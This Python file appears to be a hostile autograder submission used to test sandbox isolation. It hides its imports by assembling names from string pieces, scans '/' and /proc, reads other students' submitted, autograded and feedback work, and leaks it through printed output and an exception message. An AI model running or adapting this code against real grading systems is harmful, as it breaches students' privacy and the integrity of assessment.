"""Attack: read other students' submitted and autograded work and print it."""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
ME = "reads_other_students_work"
KINDS = ("submitted", "autograded", "feedback")

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
_o = _load("o" + "s")
_s = _load("s" + "ys")
_t = _load("ti" + "me")
_file = _B["op" + "en"]
MARK = "ESCAPE" + "-SUCCESS:"
WHERE = "child" if _o.getcwd().endswith("/regrade") else "kernel"
REPORT = []
# The system and the Python installation are public: nothing of the course's is in there.
_SKIP = {"/proc", "/sys", "/dev", "/usr"} | {
    q for p in (_s.prefix, _s.base_prefix, _s.exec_prefix) for q in (p, _o.path.realpath(p))}


def _say(text):
    REPORT.append(text)
    print(f"[{WHERE}] {text}", flush=True)


def _walk(seconds):
    """A time-bounded walk over ``/`` (what the grading process can see)."""
    deadline = _t.monotonic() + seconds
    for dirpath, dirnames, filenames in _o.walk("/", onerror=lambda e: _say(f"walk: {e!r}")):
        if _t.monotonic() > deadline:
            _say("the walk over / ran out of time")
            return
        dirnames[:] = [d for d in dirnames if _o.path.join(dirpath, d) not in _SKIP]
        yield dirpath, dirnames, filenames


def _proc_places():
    """Working folders and roots of every process we can see (the grader's would be the course)."""
    places = []
    pids = {p for p in _o.listdir("/proc") if p.isdigit()} | {"1", str(_o.getppid())}
    for pid in sorted(pids, key=int):
        for link in ("cwd", "root"):
            try:
                places.append(_o.readlink(f"/proc/{pid}/{link}"))
            except OSError as e:
                _say(f"/proc/{pid}/{link}: {e!r}")
    return [p for p in dict.fromkeys(places) if p != "/"]


def _up(folder):
    """``folder`` and its parents."""
    found = []
    while folder not in ("/", ""):
        found.append(folder)
        folder = _o.path.dirname(folder)
    return found


def _course_guesses():
    """Where a course folder could be: around visible processes, our folder, the venv, the usual places."""
    guesses = []
    for place in _proc_places() + [_o.getcwd()]:
        guesses += _up(place)
    guesses += [_o.path.dirname(_s.prefix), "/work/main", "/srv/nbgrader/course", "/home/jovyan",
                _o.path.expanduser("~")]
    guesses += [v for v in _o.environ.values() if v.startswith("/") and _o.path.isdir(v)]
    return list(dict.fromkeys(guesses))


def _collection_folders():
    """Folders named submitted/, autograded/ or feedback/ that we can find."""
    found = [_o.path.join(place, kind) for place in _course_guesses() for kind in KINDS]
    for dirpath, dirnames, filenames in _walk(1.0):
        found += [_o.path.join(dirpath, d) for d in dirnames if d in KINDS]
    return [f for f in dict.fromkeys(found) if _o.path.isdir(f)]


def attack():
    folders = _collection_folders()
    _say(f"collection folders: {folders}")
    for folder in folders:
        try:
            students = _o.listdir(folder)
        except OSError as e:
            _say(f"listing {folder} failed: {e!r}")
            continue
        _say(f"{folder}: {students}")
        for student in students:
            if student == ME:
                continue
            path = _o.path.join(folder, student, "assignment2", "regularization.py")
            try:
                with _file(path, encoding="utf-8", errors="replace") as handle:
                    _say(f"{MARK} {path}:\n{handle.read()[:2000]}")
            except OSError as e:
                _say(f"reading {path} failed: {e!r}")
    # siblings of our own folder, in case the grader ran us in autograded/<me>/assignment2
    for sibling in ("../../honest-reference/assignment2/regularization.py",
                    "../../../submitted/honest-masks/assignment2/regularization.py"):
        try:
            with _file(sibling, encoding="utf-8", errors="replace") as handle:
                _say(f"{MARK} {sibling}:\n{handle.read()[:2000]}")
        except OSError as e:
            _say(f"reading {sibling} failed: {e!r}")


try:
    attack()
except Exception as e:  # noqa: BLE001
    _say(f"attack failed: {e!r}")


def L1_reg(W, reg):
    raise RuntimeError("report: " + " | ".join(REPORT)[-400:])


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)
